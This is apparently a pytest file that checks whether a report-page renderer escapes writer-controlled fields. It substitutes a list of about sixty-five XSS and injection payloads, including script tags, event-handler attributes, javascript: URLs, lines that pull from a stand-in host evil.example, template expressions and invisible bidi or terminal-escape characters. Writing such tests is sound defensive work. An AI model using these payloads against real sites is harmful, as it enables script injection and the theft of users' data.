"""Whatever a scenario's writer writes is shown as text: sixty attacks in every field, and no element comes of them.

Every field that a writer controls holds a word of its own, `qq` and more; in the finished dossier each such word is
replaced by the attack, wherever it stands, also inside sentences made from it. What the page then has of elements
must be what it has for a harmless word.
"""

import re

import msgspec
import pytest
from page_reader import Reading, opened_browser, scenario_of

from ipchain.experiment.runner import run
from ipchain.report.dossier.gather import Dossier, dossier_of
from ipchain.report.page.render import page
from ipchain.report.visible import visible

SCENARIO = """\
ipchain: 1
title: qqtitle
description: qqdescription
authors: [qqauthor]
tags: [qqtag]
seed: 5
duration: 2 min
offices: [EM, GB, AU]
parties:
  qqparty1: {name: qqname1, home: EM}
  qqparty2: {name: qqname2, home: GB}
consensus: {model: raft, block_interval: 1 s}
steps:
  - id: qqstep1
    at: 10 s
    say: qqsay1
    why: qqwhy1
    register: {right: qqright, kind: trade-mark, at_office: EM, owner: qqparty1, words: qqwords, nice_classes: [29]}
  - id: qqstep2
    assign: {right: qqright, at_office: EM, from: qqparty1, to: qqparty2}
  - id: qqstep3
    assign: {right: qqright, at_office: EM, from: qqparty1, to: qqparty2}
  - id: qqstep4
    oppose: {right: qqright, at_office: EM, grounds: qqgrounds, by: qqparty1}
  - id: qqstep5
    certify: {right: qqright, at_office: EM}
  - id: qqmotion
    at: 60 s
    propose: {at_office: EM, decision: upgrade, version: qqversion, open_for: 40 s}
  - id: qqvote
    vote: {proposal: qqmotion, ballots: {EM: yes, GB: yes}}
load:
  - id: qqload
    register: {kind: trade-mark}
    rate: 12 / min
    at_offices: all
faults:
  - id: qqfault
    at: 30 s
    for: 20 s
    say: qqfaultsay
    partition: [[EM, GB], [AU]]
expect:
  - id: qqcheck1
    outcome: {step: qqstep3, is: final}
    why: qqcheckwhy
  - id: qqcheck2
    say: qqrequired
    outcome: {step: qqstep2, is: final}
  - id: qqcheck3
    at_end: {right: qqright, owner: qqparty1, licensees: [qqparty2], at_offices: all}
"""

FIELDS = (
    *("qqtitle", "qqdescription", "qqname1", "qqname2", "qqright", "qqwords", "qqgrounds", "qqmotion", "qqversion"),
    *("qqstep1", "qqstep2", "qqstep3", "qqstep4", "qqstep5", "qqsay1", "qqwhy1", "qqload", "qqfault", "qqfaultsay"),
    *("qqcheck1", "qqcheck2", "qqcheck3", "qqcheckwhy", "qqrequired"),
)

ATTACKS = (
    # ---- elements
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "</svg><script>window.hit=1</script>",
    "<svg><script>window.hit=1</script></svg>",
    "</title><script>window.hit=1</script>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<input autofocus onfocus=window.hit=1>",
    "<math><mtext><script>window.hit=1</script></mtext></math>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=javascript:window.hit=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<!-- --><b>bold</b>",
    "--><b>bold</b><!--",
    "<![CDATA[<b>bold</b>]]>",
    "<?xml version='1.0'?><b>bold</b>",
    "<a href=javascript:window.hit=1>go</a>",
    "</td></tr></table><h1>moved</h1>",
    "</p></div></section></main><h1>moved</h1>",
    "</details><h2>moved</h2>",
    "<plaintext>",
    "<textarea>",
    "<select><option>x",
    "<table><tr><td>x",
    "<marquee>x</marquee>",
    "<foreignObject><b>x</b></foreignObject>",
    # ---- attributes
    '" onmouseover="window.hit=1',
    "' onmouseover='window.hit=1",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    "x onclick=window.hit=1 y",
    '" style="background:url(//evil.example)',
    "` onmouseover=`window.hit=1",
    'x" id="verdict" y="',
    # ---- templates, entities, encodings
    "{{ 7 * 7 }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# gone #}",
    "{title} {0} {verdict.__class__}",
    "%(title)s %s %n",
    "${window.hit=1}",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "+ADw-script+AD4-",
    "\xbcscript\xbe",
    # ---- what cannot be seen
    "safe\u202etxt.exe\u202c",
    "a\u2066b\u2069c\u200fd\u200ee",
    "zero\u200bwidth\u2028line\u2029par\ufeff",
    "\x1b[2J\x1b]0;owned\x07",
    "nul\x00bell\x07del\x7fcsi\x9b31m",
    "\ufdfa\ufdfa\ufdfaZ\u0351\u0334\u0340algo",
    "\U000e0041tag\U000e007f",
)

COUNT = """() => {
  const counts = {};
  for (const one of document.querySelectorAll('*')) {
    if (one.closest('#glossary')) continue;
    const name = one.namespaceURI.split('/').pop() + ':' + one.localName;
    // A name in a drawing is left out where it has no room.
    if (name !== 'svg:text') counts[name] = (counts[name] || 0) + 1;
    for (const attribute of one.attributes) {
      if (attribute.name.startsWith('on') || attribute.name === 'style') counts[`attribute ${attribute.name}`] = 1;
    }
  }
  return counts;
}"""


@pytest.fixture(scope="module")
def browser():
    with opened_browser() as made:
        yield made


@pytest.fixture(scope="module")
def written():
    """The dossier of the run as JSON."""
    return msgspec.json.encode(dossier_of(run(scenario_of(SCENARIO)))).decode()


def attacked(written, *attacks):
    """The dossier with the attacks in place of the writer's words: in turn, one for each field."""
    texts = [msgspec.json.encode(attack).decode()[1:-1] for attack in attacks]
    turn = {field: texts[place % len(texts)] for place, field in enumerate(FIELDS)}
    replaced = re.sub("qq[a-z0-9]+", lambda word: turn.get(word[0], texts[0]), written)
    return msgspec.json.decode(replaced, type=Dossier)


def test_every_field_that_a_writer_controls_reaches_the_page(written):
    text = page(msgspec.json.decode(written, type=Dossier), "en").decode()
    assert [field for field in FIELDS if field not in text] == []


def test_sixty_attacks_are_tried():
    assert len(set(ATTACKS)) == len(ATTACKS) >= 60


def test_no_attack_creates_an_element_runs_or_asks_for_anything(browser, tmp_path, written):
    """Each attack in some fields: every page has as many attacks as a run has fields, the next page the next ones."""
    look_at(
        browser, tmp_path, written, "en", [ATTACKS[place:] + ATTACKS[:place] for place in range(0, len(ATTACKS), 7)]
    )


@pytest.mark.slow
@pytest.mark.parametrize("language", ["en", "zh"])
def test_no_attack_in_any_field_creates_an_element_runs_or_asks_for_anything(browser, tmp_path, written, language):
    """Each attack in every field at once."""
    look_at(browser, tmp_path, written, language, [(attack,) for attack in ATTACKS])


def look_at(browser, tmp_path, written, language, turns):
    file = tmp_path / "page.html"
    file.write_bytes(page(attacked(written, "harmless words"), language))
    with Reading(browser, file) as reading:
        expected = reading.page.evaluate(COUNT)
        for attacks in turns:
            file.write_bytes(page(attacked(written, *attacks), language))
            reading.page.goto(reading.address)
            found = reading.page.evaluate(COUNT)
            assert found == expected, (attacks[0], dict(found.items() ^ expected.items()))
            assert reading.page.evaluate("window.hit") is None, attacks[0]
            assert reading.heard == [], attacks[0]
            assert reading.page.locator("h1").text_content() == visible(" ".join(attacks[0].split()))


def test_an_attack_that_got_through_would_be_counted(browser, tmp_path, written):
    harmless, planted = tmp_path / "harmless.html", tmp_path / "planted.html"
    content = page(attacked(written, "harmless words"), "en")
    harmless.write_bytes(content)
    planted.write_bytes(content.replace(b"harmless words", b"<b onclick=x>harmless words</b>"))
    with Reading(browser, harmless) as one, Reading(browser, planted) as other:
        expected, found = one.page.evaluate(COUNT), other.page.evaluate(COUNT)
        assert found["xhtml:b"] > 0
        assert found["attribute onclick"] == 1
        assert "xhtml:b" not in expected


def test_no_invisible_character_is_left_on_the_page(written):
    for attack in ATTACKS[-8:]:
        text = page(attacked(written, attack), "zh").decode().replace("\n", "")
        assert visible(text) == text, attack
